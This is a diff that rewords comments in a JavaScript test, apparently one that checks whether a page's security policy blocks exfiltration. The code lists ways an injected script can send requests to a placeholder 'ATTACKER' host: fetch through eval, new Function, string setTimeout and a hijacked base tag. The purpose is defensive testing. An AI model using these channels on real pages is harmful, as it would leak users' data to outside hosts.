@@ -1,4 +1,4 @@
-// Tries to send something to ATTACKER in every way an injected script has, each under a path of its own.
+// Tries to send a request to ATTACKER in every way that an injected script has, each with its own path.
 const to = (way) => `ATTACKER/${way}`;
 const code = (way) => `fetch('${to(way)}', { mode: 'no-cors' })`;
 const make = (tag, attributes = {}, parent = document.body) => {
@@ -45,7 +45,7 @@ const ways = {
   eval: () => window.eval(code("eval")),
   function: () => new Function(code("function"))(),
   timeout: () => setTimeout(code("timeout"), 0),
-  // Last: it changes what relative addresses mean, and an image reads its own a moment later.
+  // Last: it changes the meaning of relative addresses, and an image resolves its address later.
   base: () => { const base = make("base", { href: to("") }); new Image().src = "base"; setTimeout(() => base.remove()); },
 };
 window.violations = [];
